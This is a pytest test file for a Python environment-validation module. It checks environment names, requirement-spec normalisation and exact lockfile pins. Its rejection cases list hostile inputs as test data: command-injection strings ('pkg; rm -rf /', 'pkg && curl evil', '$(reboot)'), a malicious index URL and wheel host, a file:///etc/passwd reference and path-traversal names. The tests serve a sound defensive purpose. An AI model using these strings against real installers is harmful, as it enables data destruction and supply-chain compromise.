"""Names and package specs: what is accepted, what is refused, and what the message says."""
import pytest

from jhub_broker.services.environments.validation import (ValidationError, normalize_requirements, parse_lockfile,
                                                          validate_env_name)


def test_dotted_names_are_packages():
    assert normalize_requirements(["zope.interface>=6", "backports.zoneinfo"]) == [
        "backports.zoneinfo", "zope.interface>=6"]


@pytest.mark.parametrize("name", ["a", "analysis", "ml-2024", "py_311"])
def test_good_names(name):
    assert validate_env_name(name) == name


@pytest.mark.parametrize("name,message", [
    ("../x", "must not contain"), ("a/b", "must not contain"), ("..", "must not contain"), (".hidden", "start with"),
    ("", "required"), ("Caps", "lowercase"), ("1abc", "starting with a letter"), ("a" * 49, "1-48"),
    ("a b", "lowercase"), ("x\n", "lowercase"),
])
def test_bad_names(name, message):
    with pytest.raises(ValidationError, match=message):
        validate_env_name(name)


def test_specs_are_normalized_and_deduplicated():
    assert normalize_requirements(["Six>=1.0", "# comment", "", "tomli ; python_version < '3.11'", "six==1.17.0"]) \
        == ["six==1.17.0", 'tomli; python_version < "3.11"']
    assert normalize_requirements("requests[socks]>=2\nnumpy") == ["numpy", "requests[socks]>=2"]


@pytest.mark.parametrize("spec,message", [
    ("--index-url https://evil/simple", "installer options"),
    ("-e .", "installer options"),
    ("pkg; rm -rf /", "valid environment marker"),
    ("pkg @ https://evil/x.whl", "URLs and paths"),
    ("pkg @ file:///etc/passwd", "URLs and paths"),
    ("./local/path", "not a PEP 508"),
    ("evil.whl", "URLs and paths"),
    ("evil.tar.gz", "URLs and paths"),
    ("pkg && curl evil", "not a PEP 508"),
    ("$(reboot)", "not a PEP 508"),
])
def test_bad_specs(spec, message):
    with pytest.raises(ValidationError, match=message):
        normalize_requirements([spec])


def test_lockfile_needs_exact_pins():
    assert parse_lockfile("six==1.17.0\nTomli==2.0.1\n") == {"six": "1.17.0", "tomli": "2.0.1"}
    with pytest.raises(ValidationError, match="exact pin"):
        parse_lockfile("six>=1")
